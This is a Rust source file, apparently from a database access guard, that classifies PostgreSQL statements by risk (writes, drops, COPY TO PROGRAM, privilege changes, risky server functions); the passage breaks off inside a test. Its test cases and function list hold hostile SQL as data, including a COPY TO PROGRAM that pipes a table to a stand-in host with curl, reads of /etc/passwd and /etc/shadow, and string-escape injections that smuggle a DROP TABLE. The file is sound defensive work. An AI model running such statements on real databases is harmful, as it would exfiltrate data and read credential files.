//! What a SQL string does, by its worst effect.
//!
//! The text is parsed by PostgreSQL's own parser ([`super::parser`]), read
//! as the session's server reads it, and every node of the tree is looked
//! at, nested statements included: a CTE with a DELETE is a delete, `EXPLAIN
//! ANALYZE` runs what it explains, a `COPY (query)` runs its query, a
//! `PREPARE` holds what it will run. Text PostgreSQL does not parse is
//! [`StatementClass::Unparsed`], the class policies treat as the riskiest
//! unless they say otherwise; the server would refuse it too.

use std::{
    collections::{BTreeSet, HashMap},
    sync::{Arc, Mutex},
};

use serde::Serialize;

use super::{
    parser::{self, Lexing, ParseError, Tree, Value},
    predicate,
};

/// What a statement may do. Policies name these in `classes`.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum StatementClass {
    /// Reads data: SELECT, SHOW, COPY … TO STDOUT.
    Read,
    /// Session and transaction control: SET, BEGIN, COMMIT, PREPARE, LISTEN….
    Session,
    /// Changes rows with a WHERE clause (or inserts them): INSERT, UPDATE, DELETE, MERGE, COPY FROM STDIN.
    Write,
    /// UPDATE without WHERE: every row of the table.
    UpdateWithoutWhere,
    /// DELETE without WHERE: every row of the table.
    DeleteWithoutWhere,
    /// Changes the schema: CREATE, ALTER, COMMENT, VACUUM and statements Airlock has no finer class for.
    Ddl,
    /// DROP of any object.
    Drop,
    /// TRUNCATE.
    Truncate,
    /// Changes who may do what: GRANT, REVOKE, CREATE/ALTER/DROP ROLE, SET ROLE, SET SESSION AUTHORIZATION.
    Privilege,
    /// COPY … TO/FROM PROGRAM: runs a shell command on the database server.
    CopyProgram,
    /// COPY … TO/FROM a file on the database server.
    CopyFile,
    /// Runs procedural code whose effect cannot be seen from here: DO blocks, CALL.
    Procedural,
    /// Calls a server function known to act outside the query: terminating
    /// backends, reading or writing server files, running SQL from text.
    RiskyFunction,
    /// More than one statement in one string.
    MultiStatement,
    /// Did not parse; treated as the riskiest class unless policy says otherwise.
    Unparsed,
}

impl StatementClass {
    /// Every class, in order of the enum.
    pub const ALL: [Self; 15] = [
        Self::Read,
        Self::Session,
        Self::Write,
        Self::UpdateWithoutWhere,
        Self::DeleteWithoutWhere,
        Self::Ddl,
        Self::Drop,
        Self::Truncate,
        Self::Privilege,
        Self::CopyProgram,
        Self::CopyFile,
        Self::Procedural,
        Self::RiskyFunction,
        Self::MultiStatement,
        Self::Unparsed,
    ];

    /// The name policies use.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Read => "read",
            Self::Session => "session",
            Self::Write => "write",
            Self::UpdateWithoutWhere => "update_without_where",
            Self::DeleteWithoutWhere => "delete_without_where",
            Self::Ddl => "ddl",
            Self::Drop => "drop",
            Self::Truncate => "truncate",
            Self::Privilege => "privilege",
            Self::CopyProgram => "copy_program",
            Self::CopyFile => "copy_file",
            Self::Procedural => "procedural",
            Self::RiskyFunction => "risky_function",
            Self::MultiStatement => "multi_statement",
            Self::Unparsed => "unparsed",
        }
    }

    /// The class a policy names, if it is one.
    pub fn from_name(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|class| class.as_str() == name)
    }
}

/// Server functions that act beyond the query that calls them.
const RISKY_FUNCTIONS: &[&str] = &[
    "pg_terminate_backend",
    "pg_cancel_backend",
    "pg_reload_conf",
    "pg_rotate_logfile",
    "pg_promote",
    "pg_switch_wal",
    "pg_create_restore_point",
    "pg_read_file",
    "pg_read_binary_file",
    "pg_ls_dir",
    "pg_stat_file",
    "pg_file_write",
    "lo_import",
    "lo_export",
    "lo_unlink",
    "dblink",
    "dblink_exec",
    "query_to_xml",
    "query_to_xml_and_xmlschema",
    "set_config",
];

/// What one SQL string does.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize)]
pub struct Classification {
    /// Every class any statement in the string falls in.
    pub classes: BTreeSet<StatementClass>,
    /// Tables and other relations named, as PostgreSQL resolves the
    /// spelling (unquoted names folded to lowercase): `schema.table` or `table`.
    pub tables: BTreeSet<String>,
    /// Functions called, named as tables are.
    pub functions: BTreeSet<String>,
    /// Top-level statements in the string.
    pub statements: usize,
    /// Why the text did not parse, when it did not.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub parse_error: Option<String>,
    /// Whether running it may change how the server reads the session's
    /// next statements (`SET standard_conforming_strings`, `SET
    /// client_encoding`, `RESET`, a rollback, any function call).
    #[serde(skip)]
    pub may_change_lexing: bool,
    /// Whether a literal's value decided a class (`WHERE 1 = 1`): then a
    /// text of the same shape may classify otherwise.
    #[serde(skip)]
    pub literal_sensitive: bool,
    /// The text is one write whose changed rows the server counts: what a
    /// guard by effect can measure.
    #[serde(skip)]
    pub effect: Option<Effect>,
}

/// One INSERT, UPDATE, DELETE or MERGE, alone in its text and with no other
/// write inside it (a data-modifying WITH, say): the row count in its
/// CommandComplete is then all it changed.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Effect {
    /// Which write.
    pub command: WriteCommand,
    /// Its target table as SQL, quoted and qualified as written
    /// (`ONLY "s"."t"`), for counting the table's rows.
    pub table: String,
    /// The table's name for people: `s.t`.
    pub table_name: String,
}

/// A write command whose rows the server counts.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum WriteCommand {
    /// INSERT: rows added.
    Insert,
    /// UPDATE: rows changed.
    Update,
    /// DELETE: rows removed.
    Delete,
    /// MERGE: rows inserted, updated or deleted.
    Merge,
}

impl WriteCommand {
    /// The command's keyword.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Insert => "INSERT",
            Self::Update => "UPDATE",
            Self::Delete => "DELETE",
            Self::Merge => "MERGE",
        }
    }

    fn of_node(kind: &str) -> Option<Self> {
        match kind {
            "InsertStmt" => Some(Self::Insert),
            "UpdateStmt" => Some(Self::Update),
            "DeleteStmt" => Some(Self::Delete),
            "MergeStmt" => Some(Self::Merge),
            _ => None,
        }
    }
}

impl Classification {
    /// Classifies `sql` as a session with default settings reads it
    /// (`standard_conforming_strings = on`).
    pub fn of(sql: &str) -> Self {
        Self::read(sql, Lexing::default())
    }

    /// Classifies `sql` as a session lexing per `lexing` reads it. Never
    /// fails: what does not parse is [`StatementClass::Unparsed`].
    pub fn read(sql: &str, lexing: Lexing) -> Self {
        let parsed = parser::parse(sql, lexing);
        let tree = match &parsed {
            Ok(parsed) => parsed.tree().map_err(ParseError::from),
            Err(error) => Err(error.clone()),
        };
        match tree {
            Ok(tree) => {
                let mut result = Self::default();
                Walker { tree: &tree, result: &mut result }.walk();
                result
            }
            Err(error) => Self::unparsed(error.to_string()),
        }
    }

    /// A string that could not be read, for `reason`.
    pub fn unparsed(reason: String) -> Self {
        Self {
            classes: BTreeSet::from([StatementClass::Unparsed]),
            statements: 1,
            parse_error: Some(reason),
            may_change_lexing: true,
            ..Self::default()
        }
    }

    /// Whether the string does nothing at all (empty or only comments).
    pub fn is_empty(&self) -> bool {
        self.statements == 0 && self.parse_error.is_none()
    }

    /// Adds what `other` found: a text read two ways does the worst of both.
    pub fn merge(&mut self, other: Self) {
        self.classes.extend(other.classes);
        self.tables.extend(other.tables);
        self.functions.extend(other.functions);
        self.statements = self.statements.max(other.statements);
        self.parse_error = self.parse_error.take().or(other.parse_error);
        self.may_change_lexing |= other.may_change_lexing;
        self.literal_sensitive |= other.literal_sensitive;
        // Read two ways, a text is measurable only if both readings agree.
        if self.effect != other.effect {
            self.effect = None;
        }
    }
}

struct Walker<'t, 'a> {
    tree: &'t Tree<'a>,
    result: &'t mut Classification,
}

impl Walker<'_, '_> {
    fn walk(&mut self) {
        let tree = self.tree;
        self.result.statements = parser::statement_kinds(tree).len();
        if self.result.statements > 1 {
            self.class(StatementClass::MultiStatement);
        }
        // Document order is pre-order: every node, however deep, once; the
        // first statement node is the top-level statement.
        let mut top = None;
        let mut writes = 0;
        for (at, item) in tree.items().iter().enumerate() {
            if item.key == "relname"
                && let Value::Str(_) = item.value
            {
                self.relation(item.parent as usize);
            } else if let Some((kind, fields)) = tree.node(at) {
                if kind.ends_with("Stmt") {
                    top.get_or_insert((kind, fields));
                    writes += usize::from(WriteCommand::of_node(kind).is_some());
                }
                self.node(kind, fields);
            }
        }
        if let (1, 1, Some((kind, fields))) = (self.result.statements, writes, top)
            && let Some(command) = WriteCommand::of_node(kind)
        {
            self.result.effect =
                self.target_table(fields).map(|(table, table_name)| Effect { command, table, table_name });
        }
    }

    /// A write's target (its `relation`, a RangeVar) as SQL and for people.
    fn target_table(&self, fields: usize) -> Option<(String, String)> {
        let tree = self.tree;
        // A RangeVar field, not a node: its fields directly.
        let range = tree.member(fields, "relation")?;
        let quote = crate::credentials::quote_ident;
        let relation = tree.string(range, "relname")?;
        let (sql, name) = match tree.string(range, "schemaname") {
            Some(schema) => (format!("{}.{}", quote(&schema), quote(&relation)), format!("{schema}.{relation}")),
            None => (quote(&relation), relation.into_owned()),
        };
        let inherited = tree.member(range, "inh").is_some_and(|at| tree.items()[at].value == Value::Bool(true));
        Some((if inherited { sql } else { format!("ONLY {sql}") }, name))
    }

    fn class(&mut self, class: StatementClass) {
        self.result.classes.insert(class);
    }

    /// A RangeVar's fields: `schemaname`, `relname`.
    fn relation(&mut self, fields: usize) {
        let tree = self.tree;
        let Some(relation) = tree.string(fields, "relname") else { return };
        let name = match tree.string(fields, "schemaname") {
            Some(schema) => format!("{schema}.{relation}"),
            None => relation.into_owned(),
        };
        self.result.tables.insert(name);
    }

    /// A list of `String` nodes as a dotted name (`pg_catalog.set_config`).
    fn dotted(&self, list: usize) -> String {
        let tree = self.tree;
        let parts = tree.children(list).filter_map(|part| {
            let (kind, fields) = tree.node(part)?;
            (kind == "String").then(|| tree.string(fields, "sval").unwrap_or_default())
        });
        parts.collect::<Vec<_>>().join(".")
    }

    fn node(&mut self, kind: &str, fields: usize) {
        use StatementClass as C;
        let tree = self.tree;
        let has = |key: &str| tree.member(fields, key).is_some();
        let flag = |key: &str| tree.member(fields, key).is_some_and(|at| tree.items()[at].value == Value::Bool(true));
        let class = match kind {
            // `VALUES (…)` (an INSERT's rows, too) reads nothing itself.
            "SelectStmt" if has("valuesLists") => return,
            "SelectStmt" if has("intoClause") => C::Ddl,
            "SelectStmt" => C::Read,
            "InsertStmt" => C::Write,
            "UpdateStmt" => self.filtered(fields, "whereClause", C::UpdateWithoutWhere),
            "DeleteStmt" => self.filtered(fields, "whereClause", C::DeleteWithoutWhere),
            "MergeStmt" => {
                self.merge_actions(fields);
                C::Write
            }
            "CopyStmt" if flag("is_program") => C::CopyProgram,
            "CopyStmt" if has("filename") => C::CopyFile,
            "CopyStmt" if flag("is_from") => C::Write,
            "CopyStmt" => C::Read,
            "TruncateStmt" => C::Truncate,
            "DropRoleStmt" => {
                self.class(C::Privilege);
                C::Drop
            }
            "DropStmt" => {
                let objects = tree.member(fields, "objects");
                for object in objects.iter().flat_map(|&list| tree.children(list)) {
                    if let Some(("List", names)) = tree.node(object)
                        && let Some(items) = tree.member(names, "items")
                    {
                        let name = self.dotted(items);
                        self.result.tables.insert(name);
                    }
                }
                C::Drop
            }
            _ if kind.starts_with("Drop") => C::Drop,
            "GrantStmt"
            | "GrantRoleStmt"
            | "CreateRoleStmt"
            | "AlterRoleStmt"
            | "AlterRoleSetStmt"
            | "AlterDefaultPrivilegesStmt"
            | "ReassignOwnedStmt"
            | "AlterOwnerStmt"
            | "CreatePolicyStmt"
            | "AlterPolicyStmt" => C::Privilege,
            "VariableSetStmt" => {
                let name = tree.string(fields, "name");
                let name = name.as_deref().map(str::to_ascii_lowercase);
                match name.as_deref() {
                    Some("role" | "session_authorization") => C::Privilege,
                    // RESET ALL, SET SESSION CHARACTERISTICS, and the two
                    // settings that change how text is read.
                    None | Some("standard_conforming_strings" | "client_encoding") => {
                        self.result.may_change_lexing = true;
                        C::Session
                    }
                    Some(_) => C::Session,
                }
            }
            // A rollback undoes SETs; DISCARD ALL resets them; EXECUTE runs
            // a prepared statement that may call a function.
            "TransactionStmt" | "DiscardStmt" | "ExecuteStmt" => {
                self.result.may_change_lexing = true;
                C::Session
            }
            "VariableShowStmt" | "ListenStmt" | "UnlistenStmt" | "NotifyStmt" | "PrepareStmt" | "DeallocateStmt"
            | "DeclareCursorStmt" | "FetchStmt" | "ClosePortalStmt" | "ExplainStmt" => C::Session,
            "CallStmt" | "DoStmt" => {
                self.result.may_change_lexing = true;
                C::Procedural
            }
            "FuncCall" => {
                // Any function may call set_config.
                self.result.may_change_lexing = true;
                if let Some(names) = tree.member(fields, "funcname") {
                    let name = self.dotted(names);
                    let unqualified = name.rsplit('.').next().unwrap_or(&name);
                    if RISKY_FUNCTIONS.contains(&unqualified) {
                        self.class(C::RiskyFunction);
                    }
                    self.result.functions.insert(name);
                }
                return;
            }
            // CREATE, ALTER, COMMENT, VACUUM, LOCK, REFRESH and every other
            // statement: changes to the schema or the server.
            _ if kind.ends_with("Stmt") => C::Ddl,
            // Expressions, clauses and the like.
            _ => return,
        };
        self.class(class);
    }

    /// `whole` for an UPDATE or DELETE whose filter is absent or holds for
    /// every row, else a row-scoped write.
    fn filtered(&mut self, fields: usize, filter: &str, whole: StatementClass) -> StatementClass {
        if self.holds_for_every_row(fields, filter) { whole } else { StatementClass::Write }
    }

    /// Whether the condition member `key` of the node at `fields` is absent
    /// or holds for every row; noting whether a literal decided it.
    fn holds_for_every_row(&mut self, fields: usize, key: &str) -> bool {
        let Some(condition) = self.tree.member(fields, key) else { return true };
        let (always, consulted) = predicate::always_true(self.tree, condition);
        self.result.literal_sensitive |= consulted;
        always
    }

    /// MERGE deletes or updates every matched row: with a join condition
    /// that holds for every pair and an action without its own condition,
    /// that is the whole table.
    fn merge_actions(&mut self, fields: usize) {
        let tree = self.tree;
        let join_always = self.holds_for_every_row(fields, "joinCondition");
        let clauses = tree.member(fields, "mergeWhenClauses");
        for clause in clauses.iter().flat_map(|&list| tree.children(list)) {
            let Some(("MergeWhenClause", clause)) = tree.node(clause) else { continue };
            let whole = match tree.string(clause, "commandType").as_deref() {
                Some("CMD_DELETE") => StatementClass::DeleteWithoutWhere,
                Some("CMD_UPDATE") => StatementClass::UpdateWithoutWhere,
                _ => continue,
            };
            if join_always && self.holds_for_every_row(clause, "condition") {
                self.class(whole);
            }
        }
    }
}

/// Longest statement text classified; longer text is [`StatementClass::Unparsed`]
/// without trying (parsing is linear, but a megabyte of SQL is not a query a
/// person typed).
pub const MAX_CLASSIFIED_LEN: usize = parser::MAX_TEXT;
/// Distinct statement texts remembered.
const CACHE_ENTRIES: usize = 4096;

/// Classifies with a cache: applications send the same statements over and
/// over, and the same statements with other literals (`WHERE id = 42`, then
/// `WHERE id = 43`), which classify alike unless a literal's value decided
/// a class (`WHERE 1 = 1`: [`Classification::literal_sensitive`]).
#[derive(Default)]
pub struct Classifier {
    cache: Mutex<Cache>,
}

/// A text without a backslash reads the same whatever
/// `standard_conforming_strings` is (or fails on the server), so only texts
/// with one are kept apart by how they were read.
#[derive(Default)]
struct Cache {
    /// By exact text, per reading of backslashes.
    texts: [HashMap<Box<str>, Arc<Classification>>; 2],
    /// By [`shape`] (which has no backslashes), for texts that parsed.
    shapes: HashMap<Box<str>, Arc<Classification>>,
}

impl Cache {
    fn remember(map: &mut HashMap<Box<str>, Arc<Classification>>, key: &str, classification: &Arc<Classification>) {
        if map.len() >= CACHE_ENTRIES {
            // Statements that vary by structure would fill any cache;
            // starting over keeps memory bounded and the hot statements come back.
            map.clear();
        }
        map.insert(key.into(), Arc::clone(classification));
    }
}

impl Classifier {
    /// The classification of `sql` read per `lexing`, from the cache when
    /// it, or a statement of its shape, was seen before.
    pub fn classify(&self, sql: &str, lexing: Lexing) -> Arc<Classification> {
        if sql.len() > MAX_CLASSIFIED_LEN {
            return Arc::new(too_large(sql.len()));
        }
        let lexing = if sql.contains('\\') { lexing } else { Lexing::default() };
        let reading = usize::from(lexing.backslash_escapes);
        if let Some(hit) = self.cache.lock().unwrap_or_else(|p| p.into_inner()).texts[reading].get(sql) {
            return Arc::clone(hit);
        }
        let shape = shape(sql);
        if let Some(shape) = &shape
            && let Some(hit) = self.cache.lock().unwrap_or_else(|p| p.into_inner()).shapes.get(shape.as_str())
        {
            return Arc::clone(hit);
        }
        let classification = Arc::new(Classification::read(sql, lexing));
        let mut cache = self.cache.lock().unwrap_or_else(|p| p.into_inner());
        Cache::remember(&mut cache.texts[reading], sql, &classification);
        // A parse error names positions and tokens of its own text: only
        // what parsed, with no literal deciding its class, stands for other
        // texts of its shape.
        if let Some(shape) = shape
            && classification.parse_error.is_none()
            && !classification.literal_sensitive
        {
            Cache::remember(&mut cache.shapes, &shape, &classification);
        }
        classification
    }
}

/// `sql` with each literal blanked: strings to `''`, each run of digits in
/// a number to `0` (points kept). Two texts of one shape differ only in
/// what their literals hold, so they classify alike.
///
/// `None` (only the exact text is then cached) for text whose reading a
/// blanked literal could change, or that this scan might read otherwise
/// than PostgreSQL: backslashes (escapes under
/// `standard_conforming_strings = off`), prefixed strings (`E''`, `U&''`,
/// `B''`, `X''`), dollar quotes and parameters, comments, numbers with
/// exponents or too many digits to be an integer, unterminated quotes; and
/// for text without literals, whose shape is the text itself.
fn shape(sql: &str) -> Option<String> {
    /// Bytes that continue a word: a literal right after one is not a literal.
    fn wordy(byte: u8) -> bool {
        byte.is_ascii_alphanumeric() || byte == b'_' || byte == b'$' || byte == b'&' || !byte.is_ascii()
    }
    let bytes = sql.as_bytes();
    let mut out = String::with_capacity(sql.len());
    let mut literals = 0;
    let mut i = 0;
    while let Some(&byte) = bytes.get(i) {
        let after_word = i > 0 && wordy(bytes[i - 1]);
        match byte {
            b'\\' | b'$' => return None,
            b'-' if bytes.get(i + 1) == Some(&b'-') => return None,
            b'/' if bytes.get(i + 1) == Some(&b'*') => return None,
            b'\'' if after_word => return None,
            b'\'' => {
                let mut end = i + 1;
                loop {
                    match *bytes.get(end)? {
                        b'\\' => return None,
                        b'\'' if bytes.get(end + 1) == Some(&b'\'') => end += 2,
                        b'\'' => break,
                        _ => end += 1,
                    }
                }
                out.push_str("''");
                literals += 1;
                i = end + 1;
            }
            b'"' => {
                // A quoted identifier is structure: kept as written.
                let mut end = i + 1;
                loop {
                    match *bytes.get(end)? {
                        b'"' if bytes.get(end + 1) == Some(&b'"') => end += 2,
                        b'"' => break,
                        _ => end += 1,
                    }
                }
                out.push_str(&sql[i..=end]);
                i = end + 1;
            }
            b'0'..=b'9' if !after_word => {
                let mut end = i;
                while let Some(&b) = bytes.get(end) {
                    match b {
                        b'0'..=b'9' => {
                            let run = bytes[end..].iter().take_while(|b| b.is_ascii_digit()).count();
                            if run > 18 {
                                return None;
                            }
                            out.push('0');
                            end += run;
                        }
                        b'.' => {
                            out.push('.');
                            end += 1;
                        }
                        _ if wordy(b) => return None,
                        _ => break,
                    }
                }
                literals += 1;
                i = end;
            }
            _ => {
                // On to the next byte that may start a literal, a quote or a
                // comment: all ASCII, so a character boundary.
                let next = bytes[i + 1..]
                    .iter()
                    .position(|b| matches!(b, b'\\' | b'$' | b'-' | b'/' | b'\'' | b'"' | b'0'..=b'9'))
                    .map_or(bytes.len(), |n| i + 1 + n);
                out.push_str(&sql[i..next]);
                i = next;
            }
        }
    }
    (literals > 0).then_some(out)
}

/// The classification of a statement too large to inspect.
pub fn too_large(len: usize) -> Classification {
    Classification::unparsed(ParseError::TooLarge(len).to_string())
}

#[cfg(test)]
mod tests {
    use super::{StatementClass as C, *};

    fn classes(sql: &str) -> Vec<C> {
        Classification::of(sql).classes.into_iter().collect()
    }

    #[test]
    fn a_lone_write_is_measurable_and_names_its_table() {
        let effect = |sql: &str| Classification::of(sql).effect.map(|e| (e.command, e.table, e.table_name));
        assert_eq!(
            effect("DELETE FROM customers WHERE id IS NOT NULL"),
            Some((WriteCommand::Delete, "\"customers\"".into(), "customers".into()))
        );
        assert_eq!(
            effect("update ONLY Sales.\"Or\"\"ders\" set a = 1 where b in (select b from c)"),
            Some((WriteCommand::Update, "ONLY \"sales\".\"Or\"\"ders\"".into(), "sales.Or\"ders".into()))
        );
        assert_eq!(effect("INSERT INTO t SELECT * FROM u").map(|e| e.0), Some(WriteCommand::Insert));
        assert_eq!(
            effect("MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE").map(|e| e.0),
            Some(WriteCommand::Merge)
        );
        // Nothing the row count would not cover.
        for sql in [
            "WITH d AS (DELETE FROM a RETURNING id) UPDATE b SET x = 1 WHERE id IN (SELECT id FROM d)",
            "WITH d AS (DELETE FROM a RETURNING id) SELECT * FROM d",
            "EXPLAIN ANALYZE DELETE FROM a WHERE id > 1",
            "PREPARE p AS DELETE FROM a WHERE id > 1",
            "DELETE FROM a WHERE id = 1; DELETE FROM b WHERE id = 1",
            "COPY a FROM STDIN",
            "SELECT 1",
        ] {
            assert_eq!(effect(sql), None, "{sql}");
        }
    }

    #[test]
    fn reads_and_writes() {
        assert_eq!(classes("SELECT * FROM customers WHERE id = 1"), [C::Read]);
        assert_eq!(classes("select 1; -- trailing comment"), [C::Read]);
        assert_eq!(classes("INSERT INTO t VALUES (1)"), [C::Write]);
        assert_eq!(classes("UPDATE t SET a = 1 WHERE id = 2"), [C::Write]);
        assert_eq!(classes("DELETE FROM t WHERE id = 2"), [C::Write]);
        assert_eq!(classes("COPY t TO STDOUT"), [C::Read]);
        assert_eq!(classes("COPY t FROM STDIN"), [C::Write]);
        assert_eq!(classes("SELECT * INTO newtab FROM t"), [C::Ddl]);
    }

    #[test]
    fn whole_table_changes() {
        assert_eq!(classes("DELETE FROM t"), [C::DeleteWithoutWhere]);
        assert_eq!(classes("delete   from public.t  "), [C::DeleteWithoutWhere]);
        assert_eq!(classes("UPDATE t SET a = 1"), [C::UpdateWithoutWhere]);
        assert_eq!(classes("DELETE FROM t USING u"), [C::DeleteWithoutWhere]);
    }

    #[test]
    fn a_cte_is_as_bad_as_its_worst_part() {
        let c = Classification::of("WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone");
        assert!(c.classes.contains(&C::DeleteWithoutWhere), "{c:?}");
        assert!(c.tables.contains("orders"), "{c:?}");
    }

    #[test]
    fn dangerous_statements() {
        assert_eq!(classes("DROP TABLE customers"), [C::Drop]);
        assert_eq!(classes("drop table if exists \"Customers\" cascade"), [C::Drop]);
        assert_eq!(classes("TRUNCATE orders"), [C::Truncate]);
        assert_eq!(classes("GRANT SELECT ON t TO bob"), [C::Privilege]);
        assert_eq!(classes("REVOKE ALL ON t FROM bob"), [C::Privilege]);
        assert_eq!(classes("CREATE ROLE evil SUPERUSER"), [C::Privilege]);
        assert_eq!(classes("ALTER ROLE bob WITH SUPERUSER"), [C::Privilege]);
        assert_eq!(classes("DROP ROLE bob"), [C::Drop, C::Privilege]);
        assert_eq!(classes("SET ROLE admin"), [C::Privilege]);
        assert_eq!(classes("COPY t TO PROGRAM 'curl -d @- evil'"), [C::CopyProgram]);
        assert_eq!(classes("COPY t FROM '/etc/passwd'"), [C::CopyFile]);
        assert_eq!(classes("CALL purge_all()"), [C::Procedural]);
        assert_eq!(classes("ALTER TABLE t ADD COLUMN x int"), [C::Ddl]);
        assert_eq!(classes("CREATE INDEX i ON t (a)"), [C::Ddl]);
        assert_eq!(classes("SELECT pg_terminate_backend(123)"), [C::Read, C::RiskyFunction]);
        assert_eq!(classes("select pg_catalog.pg_read_file('/etc/shadow')"), [C::Read, C::RiskyFunction]);
    }

    #[test]
    fn session_statements() {
        for sql in ["BEGIN", "COMMIT", "ROLLBACK", "SET search_path = app", "SHOW work_mem", "LISTEN jobs"] {
            assert_eq!(classes(sql), [C::Session], "{sql}");
        }
    }

    #[test]
    fn explain_analyze_counts_what_it_runs() {
        assert!(classes("EXPLAIN ANALYZE DELETE FROM t").contains(&C::DeleteWithoutWhere));
    }

    #[test]
    fn multi_statement_strings() {
        assert_eq!(classes("SELECT 1; DROP TABLE t"), [C::Read, C::Drop, C::MultiStatement]);
        assert_eq!(classes("BEGIN; DELETE FROM t; COMMIT"), [C::Session, C::DeleteWithoutWhere, C::MultiStatement]);
    }

    #[test]
    fn comments_casing_and_dollar_quotes_do_not_hide_anything() {
        assert_eq!(classes("/* harmless */ DrOp /* really */ TaBlE t"), [C::Drop]);
        assert_eq!(classes("SELECT 'DROP TABLE t'"), [C::Read]);
        assert_eq!(classes("SELECT $$ DELETE FROM t $$"), [C::Read]);
        assert_eq!(classes("SELECT $tag$ ; DROP TABLE t; $tag$"), [C::Read]);
    }

    #[test]
    fn do_blocks_are_procedural() {
        assert_eq!(classes("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$"), [C::Procedural]);
    }

    #[test]
    fn gibberish_is_unparsed_and_fails_closed() {
        let c = Classification::of("SELEKT * FRM t");
        assert_eq!(c.classes.iter().copied().collect::<Vec<_>>(), [C::Unparsed]);
        // PostgreSQL refuses the whole string, so nothing in it runs.
        let c = Classification::of("SELECT 1; BLAH BLAH; DROP TABLE t");
        assert_eq!(c.classes.iter().copied().collect::<Vec<_>>(), [C::Unparsed]);
        assert_eq!(c.parse_error.as_deref(), Some("syntax error at or near \"BLAH\" (at character 11)"));
    }

    #[test]
    fn tables_are_named_as_postgres_resolves_them() {
        let c = Classification::of(r#"SELECT * FROM Public.Customers c JOIN "Orders" o ON o.c = c.id"#);
        assert_eq!(c.tables.iter().map(String::as_str).collect::<Vec<_>>(), ["Orders", "public.customers"]);
        let c = Classification::of("DROP TABLE a, b.c");
        assert_eq!(c.tables.iter().map(String::as_str).collect::<Vec<_>>(), ["a", "b.c"]);
        // PostgreSQL folds only ASCII letters of unquoted names.
        let c = Classification::of(r#"DROP TABLE ÄBC, "ÄBC", ÉcOLE.Ü"#);
        assert_eq!(c.tables.iter().map(String::as_str).collect::<Vec<_>>(), ["ÄBC", "Äbc", "École.Ü"]);
        let c = Classification::of(r#"SELECT Pg_Terminate_Backend(1), "Lower"(x) FROM t"#);
        assert_eq!(c.functions.iter().map(String::as_str).collect::<Vec<_>>(), ["Lower", "pg_terminate_backend"]);
        assert!(c.classes.contains(&StatementClass::RiskyFunction));
    }

    #[test]
    fn empty_strings_do_nothing() {
        assert!(Classification::of("").is_empty());
        assert!(Classification::of("  -- just a comment\n").is_empty());
        assert!(!Classification::of("x").is_empty());
    }

    #[test]
    fn text_after_a_block_end_is_not_skipped() {
        // PostgreSQL reads `END` here as a column alias, and runs both.
        assert_eq!(classes("SELECT 1 END; DROP TABLE t"), [C::Read, C::Drop, C::MultiStatement]);
        assert_eq!(classes("BEGIN; SELECT 1; END; DROP TABLE t"), [C::Read, C::Session, C::Drop, C::MultiStatement]);
        assert_eq!(classes("SELECT CASE WHEN true THEN 1 END"), [C::Read]);
    }

    #[test]
    fn a_nul_byte_hides_nothing() {
        for sql in ["SELECT f(\0)\n;DROP TABLE t", "SELECT 1\0;DROP TABLE t"] {
            assert_eq!(classes(sql), [C::Unparsed], "{sql:?}");
        }
    }

    #[test]
    fn strings_are_read_as_the_session_reads_them() {
        let sql = r"SELECT 'x\''; DROP TABLE t; -- '";
        assert_eq!(classes(sql), [C::Read]);
        let off = Classification::read(sql, Lexing { backslash_escapes: true });
        assert_eq!(off.classes.into_iter().collect::<Vec<_>>(), [C::Read, C::Drop, C::MultiStatement]);
        // The cache keeps the two readings apart.
        let classifier = Classifier::default();
        assert!(!classifier.classify(sql, Lexing::default()).classes.contains(&C::Drop));
        assert!(classifier.classify(sql, Lexing { backslash_escapes: true }).classes.contains(&C::Drop));
        for sql in
            [r"SELECT E'x\''; DROP TABLE t; -- '", "SELECT U&'\\0027'; DROP TABLE t", "SELECT $q$'$q$; DROP TABLE t"]
        {
            assert!(classes(sql).contains(&C::Drop), "{sql}");
        }
    }

    #[test]
    fn constant_true_filters_reach_the_whole_table() {
        for filter in [
            "true",
            "TRUE",
            "'t'",
            "'yes'::boolean",
            "1 = 1",
            "'a' = 'a'",
            "2 > 1",
            "id = id",
            "t.id = t.id",
            "id >= id",
            "id IS NOT DISTINCT FROM id",
            "x = 5 OR true",
            "NOT false",
            "NOT (1 = 2)",
            "true AND 1 = 1",
            "1 IS NOT NULL",
            "true IS TRUE",
            "EXISTS (SELECT 1)",
            "(SELECT true)",
            "$1",
            "x = 1 OR $1::bool",
            "((true))",
        ] {
            for statement in ["DELETE FROM t WHERE", "UPDATE t SET a = 1 WHERE"] {
                let sql = format!("{statement} {filter}");
                let c = Classification::of(&sql);
                assert!(
                    c.classes.contains(&C::DeleteWithoutWhere) || c.classes.contains(&C::UpdateWithoutWhere),
                    "{sql}: {c:?}"
                );
            }
        }
        for filter in [
            "id = 5",
            "1 = 2",
            "false",
            "x = 5 AND true",
            "NULL",
            "id < id",
            "random() = random()",
            "id IS NOT NULL",
            "id IN (SELECT id FROM t)",
            "EXISTS (SELECT 1 FROM u WHERE u.id = t.id)",
            "$1 = id",
        ] {
            let sql = format!("DELETE FROM t WHERE {filter}");
            let c = classes(&sql);
            assert!(c.contains(&C::Write) && !c.contains(&C::DeleteWithoutWhere), "{sql}: {c:?}");
        }
    }

    #[test]
    fn merge_is_classified_by_its_actions() {
        assert_eq!(
            classes("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id)"),
            [C::Write]
        );
        assert_eq!(classes("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE"), [C::Write]);
        let everything = classes("MERGE INTO t USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE");
        assert!(everything.contains(&C::DeleteWithoutWhere), "{everything:?}");
        let everything = classes("MERGE INTO t USING s ON 1 = 1 WHEN MATCHED THEN UPDATE SET a = 1");
        assert!(everything.contains(&C::UpdateWithoutWhere), "{everything:?}");
        let guarded = classes("MERGE INTO t USING s ON true WHEN MATCHED AND t.id = 3 THEN DELETE");
